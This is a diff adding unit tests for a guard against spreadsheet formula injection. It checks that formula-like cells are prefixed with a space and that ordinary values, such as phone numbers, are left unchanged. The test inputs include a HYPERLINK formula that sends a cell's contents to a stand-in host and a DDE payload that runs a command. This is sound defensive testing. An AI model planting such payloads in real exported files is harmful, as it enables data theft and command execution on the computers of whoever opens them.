@@ -1,0 +1,28 @@
+import { expect, it } from 'vitest';
+import { withoutFormula } from './formula-guard.js';
+
+it.each([
+  '=1+1',
+  '=HYPERLINK("http://x.example?"&A1)',
+  "+cmd|' /C calc'!A0",
+  '-2+3+A1',
+  '@SUM(A1)',
+  '\uFF1D1+1',
+  '- likes tea',
+])('a cell that would begin a formula, %s, begins with a space, so that trimming gives the value', (cell) => {
+  expect(withoutFormula(cell)).toBe(` ${cell}`);
+});
+
+it.each([
+  '',
+  'Ida',
+  '+4930901820',
+  '+49 (0)30 / 90-18 20',
+  '+4930901820;ext=12',
+  '+4930901820 ::: +49301234 ::: 110',
+  '-1',
+  'a=b',
+  "'quoted'",
+])('%j is written as it is', (cell) => {
+  expect(withoutFormula(cell)).toBe(cell);
+});
